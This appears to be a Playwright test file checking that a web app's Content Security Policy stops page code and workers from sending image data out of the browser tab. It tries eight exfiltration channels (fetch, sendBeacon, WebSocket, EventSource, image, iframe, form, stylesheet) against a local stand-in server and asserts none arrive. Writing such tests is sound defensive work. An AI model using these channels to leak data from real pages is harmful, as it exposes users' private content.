/** @file Pictures never leave the tab: whatever the page's own code might try, the policy stops. */

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { SUB_PATH_URL } from './playwright.config.ts';
import { expect, test } from './fixtures.ts';

/** A server of somebody else's that counts who calls. */
async function trap(): Promise<{ readonly url: string; hits(): number; close(): void }> {
  let hits = 0;
  const server = createServer((_, response) => {
    hits++;
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('caught');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/`, hits: () => hits, close: () => server.close() };
}

for (const { name, url } of [
  { name: 'by the headers', url: './' },
  { name: 'by the page alone, where the host sends no headers', url: SUB_PATH_URL },
]) {
  test(`stops every way out ${name}`, async ({ page, app, ledger }) => {
    const other = await trap();
    await page.goto(url);
    await page.evaluate(async (address) => {
      const attempts: (() => unknown)[] = [
        () => fetch(address, { method: 'POST', body: 'pixels' }),
        () => navigator.sendBeacon(address, 'pixels'),
        () => new WebSocket(address.replace('http', 'ws')),
        () => new EventSource(address),
        () => {
          const image = new Image();
          image.src = `${address}?pixels`;
          document.body.append(image);
        },
        () => {
          const frame = document.createElement('iframe');
          frame.src = address;
          document.body.append(frame);
        },
        () => {
          const form = document.createElement('form');
          form.action = address;
          form.method = 'post';
          form.target = '_blank';
          document.body.append(form);
          form.submit();
        },
        () => {
          const link = document.createElement('link');
          link.rel = 'stylesheet';
          link.href = address;
          document.head.append(link);
        },
      ];
      for (const attempt of attempts) {
        try {
          await attempt();
        } catch {
          // Refused, as it should be.
        }
      }
      await new Promise((later) => setTimeout(later, 1000));
    }, other.url);
    await app.ready();
    expect(page.workers().length, 'the engine runs in a worker').toBeGreaterThan(0);
    for (const worker of page.workers()) {
      await worker.evaluate((address) => fetch(address, { mode: 'no-cors' }).catch(() => {}), other.url);
    }
    expect(other.hits()).toBe(0);
    other.close();
    ledger.forgive(
      /policy violation|Content Security Policy|violates|^request (?:to|failed:) .*:\d+\/(?:\?pixels)?(?: |$)|^POST with a body/,
    );
  });
}
